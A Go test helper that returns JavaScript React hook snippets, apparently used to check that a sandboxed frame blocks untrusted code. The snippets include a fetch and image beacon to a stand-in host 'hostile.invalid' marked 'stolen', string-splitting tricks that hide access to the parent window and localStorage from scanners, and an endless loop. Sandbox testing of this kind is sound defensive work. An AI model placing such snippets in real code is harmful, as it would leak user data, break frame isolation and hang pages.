package demo

// hostile is code that passes every scan and tries at run time what it must not: the frame that it runs in has to stop it.
func hostile(what string) string {
	does := map[string]string{
		"network": `const picture = document.createElement('img');
    picture.src = 'https://hostile.invalid/picture?stolen=1';
    document.body.append(picture);
    fetch('https://hostile.invalid/?stolen=1').catch(() => {});`,
		"parent":  `try { const here = document; const view = here[['default', 'View'].join('')]; const page = view[['par', 'ent'].join('')]; page.document.title = 'stolen'; } catch {}`,
		"storage": `try { const here = document; const view = here[['default', 'View'].join('')]; view[['local', 'Storage'].join('')].setItem('stolen', '1'); } catch {}`,
		"loop":    `for (let n = 0; n >= 0; n = (n + 1) % 7) { settings.n = n; }`,
	}[what]
	return "\nfunction useHostile() {\n  useEffect(() => {\n    " + does + "\n  }, []);\n}\n"
}
